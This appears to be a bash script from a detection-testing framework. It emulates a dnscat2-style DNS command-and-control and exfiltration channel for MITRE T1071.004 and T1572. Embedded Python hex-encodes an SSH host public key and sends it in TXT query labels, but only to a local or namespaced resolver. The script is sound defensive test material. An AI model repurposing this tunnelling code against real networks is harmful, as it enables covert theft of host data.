#!/bin/bash
# vigil-emulation: attack
# technique: T1071.004 Application Layer Protocol: DNS; T1572 Protocol Tunneling
# tactic: command-and-control, exfiltration
# what: a DNS C2 channel in the style of dnscat2: a client polls with TXT queries whose
#   first label is 60 hex characters of encoded data (an SSH host key file, chunked)
#   under a fixed domain, to a resolver on 127.0.0.1:53 when that port is free, else in
#   a private network namespace.
# report: DNS tunnelling: a stream of TXT queries with long hex labels under one domain
#   from one process.
# expect: dns tunnel|tunnel|dns exfil|dga|entropy|resolver|txt
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

emul_tmpdir
: >"$EMUL_DIR/ready"
run=()
host=127.0.0.1
if ss -Hlun 'sport = :53' | grep -q .; then
    emul_netns
    host=127.0.0.1
    run=(ip netns exec "$EMUL_NS")
fi
emul_bg "${run[@]}" "$PY" "$SERVERS" dns --host "$host" --port 53 --ready-file "$EMUL_DIR/ready"
emul_ready "$EMUL_DIR/ready" >/dev/null
"${run[@]}" "$PY" - "$host" <<'PY'
import glob, random, socket, struct, sys, time
host = sys.argv[1]
keys = sorted(glob.glob("/etc/ssh/ssh_host_*_key.pub")) or ["/etc/hostname"]
data = open(keys[0], "rb").read().hex()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
for i in range(0, min(len(data), 60 * 40), 60):
    labels = [data[i:i + 60], f"{i // 60:x}", "c2", "vigil-emul", "example"]
    q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0" + struct.pack("!HH", 16, 1)
    s.sendto(q, (host, 53))
    try:
        s.recv(512)
    except socket.timeout:
        pass
    time.sleep(0.05)
print("polled")
PY
